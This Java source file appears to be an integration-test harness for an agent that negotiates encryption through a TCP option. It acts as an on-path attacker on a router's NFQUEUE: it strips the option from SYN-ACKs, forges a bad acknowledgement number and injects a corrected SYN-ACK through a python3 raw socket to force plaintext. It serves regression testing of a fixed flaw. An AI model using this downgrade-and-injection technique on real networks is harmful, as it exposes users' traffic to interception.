package net.zcc.agent.it;

import java.nio.ByteBuffer;
import java.nio.channels.ClosedChannelException;
import net.zcc.agent.nfqueue.NetlinkPacketQueue;
import net.zcc.agent.nfqueue.PacketBatch;
import net.zcc.agent.nfqueue.QueuedPacket;
import net.zcc.agent.wire.TcpPacket;
import net.zcc.agent.wire.ZccOption;

/**
 * An on-path attacker on the router's NFQUEUE (issue 9, finding 1). Every SYN-ACK from the
 * protected port loses its ZCC option (NOPs in its place, checksums fixed). The first one also
 * gets a wrong acknowledgement number (ack + 1000), and right behind it the attacker injects the
 * same SYN-ACK with the right one (a raw socket, through python3, as the router itself). Against
 * the old agent the first put the client's connection in REFUSED with a reset its stack ignored,
 * and the second then reached the stack, so the application talked in plaintext.
 *
 * <pre>
 * SynAckForger QUEUE PORT      prints "BOUND", then "FORGED n ack=..." per SYN-ACK
 * </pre>
 */
public final class SynAckForger {
    private SynAckForger() {
    }

    /**
     * Sends IPv4 packets as they are (IP_HDRINCL) from this namespace, what Java cannot do: a
     * python3 process started once, fed one hex packet per line, so an injection follows the
     * forged packet within a millisecond (Linux answers an unacceptable SYN-ACK by retransmitting
     * its SYN two jiffies later).
     */
    private static final class RawInjector {
        private final Process python;
        private final java.io.PrintStream lines;

        RawInjector() throws java.io.IOException {
            python = new ProcessBuilder("python3", "-u", "-c", "import socket,sys\n"
                    + "s=socket.socket(socket.AF_INET,socket.SOCK_RAW,socket.IPPROTO_RAW)\n"
                    + "for line in sys.stdin:\n"
                    + "    b=bytes.fromhex(line.strip())\n"
                    + "    s.sendto(b,('.'.join(str(x) for x in b[16:20]),0))\n")
                    .redirectOutput(ProcessBuilder.Redirect.INHERIT).redirectError(ProcessBuilder.Redirect.INHERIT).start();
            lines = new java.io.PrintStream(python.getOutputStream(), true, java.nio.charset.StandardCharsets.US_ASCII);
        }

        void send(byte[] packet) {
            lines.println(java.util.HexFormat.of().formatHex(packet));
        }
    }

    public static void main(String[] args) throws Exception {
        int queueNum = Integer.parseInt(args[0]);
        int port = Integer.parseInt(args[1]);
        NetlinkPacketQueue q = NetlinkPacketQueue.open(queueNum, NetlinkPacketQueue.Config.defaults());
        System.out.println("BOUND " + queueNum);
        System.out.flush();
        PacketBatch batch = new PacketBatch(64);
        TcpPacket tcp = new TcpPacket();
        byte[] buf = new byte[65536 + 128];
        int forged = 0;
        byte[] pending = null;
        RawInjector injector = new RawInjector();
        while (true) {
            int n;
            try {
                n = q.receive(batch);
            } catch (ClosedChannelException e) {
                return;
            }
            for (int i = 0; i < n; i++) {
                QueuedPacket p = batch.get(i);
                ByteBuffer v = p.payload();
                int len = v.remaining();
                v.duplicate().get(buf, 0, len);
                if (p.isMalformed() || tcp.parse(buf, len) != null || tcp.srcPort() != port
                        || (tcp.flags() & (TcpPacket.SYN | TcpPacket.ACK)) != (TcpPacket.SYN | TcpPacket.ACK)) {
                    p.accept();
                    continue;
                }
                int off = tcp.findExperimentalOption(ZccOption.EXID);
                if (off >= 0) {
                    tcp.replaceWithNops(off, tcp.optionLength(off));
                }
                long ack = forged == 0 ? (tcp.ack() + 1000) & 0xffffffffL : tcp.ack();
                int a = tcp.tcpOffset() + 8;
                buf[a] = (byte) (ack >>> 24);
                buf[a + 1] = (byte) (ack >>> 16);
                buf[a + 2] = (byte) (ack >>> 8);
                buf[a + 3] = (byte) ack;
                tcp.updateChecksums();
                p.acceptReplaced(ByteBuffer.wrap(java.util.Arrays.copyOf(buf, tcp.totalLength())));
                forged++;
                System.out.println("FORGED " + forged + " ack=" + ack);
                System.out.flush();
                if (forged == 1) { // the same SYN-ACK again, right ack, injected behind the first
                    long right = (ack - 1000) & 0xffffffffL;
                    buf[a] = (byte) (right >>> 24);
                    buf[a + 1] = (byte) (right >>> 16);
                    buf[a + 2] = (byte) (right >>> 8);
                    buf[a + 3] = (byte) right;
                    tcp.updateChecksums();
                    pending = java.util.Arrays.copyOf(buf, tcp.totalLength());
                }
            }
            if (n > 0) {
                q.sendVerdicts(batch);
            }
            if (pending != null) {
                injector.send(pending);
                forged++;
                System.out.println("INJECTED " + forged + " right ack");
                System.out.flush();
                pending = null;
            }
        }
    }
}
